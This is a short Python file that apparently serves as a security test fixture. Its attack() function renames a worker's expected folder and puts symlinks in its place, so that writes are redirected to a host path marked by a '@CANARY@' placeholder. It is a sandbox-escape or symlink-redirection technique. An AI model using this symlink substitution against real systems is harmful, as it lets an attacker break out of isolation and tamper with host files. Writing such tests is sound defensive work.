"""Puts links of its own where the worker expects folders: CANARY is a folder of the host, and a name it can have in here too."""
import os

from environment import environment

CANARY = "@CANARY@"


def attack():
    folder = environment()
    mount = "/mnt/weir"
    os.makedirs(os.path.dirname(CANARY), exist_ok=True)
    os.rename(folder, mount + "/moved")
    os.symlink(mount + "/moved", CANARY)
    os.symlink(CANARY, folder)
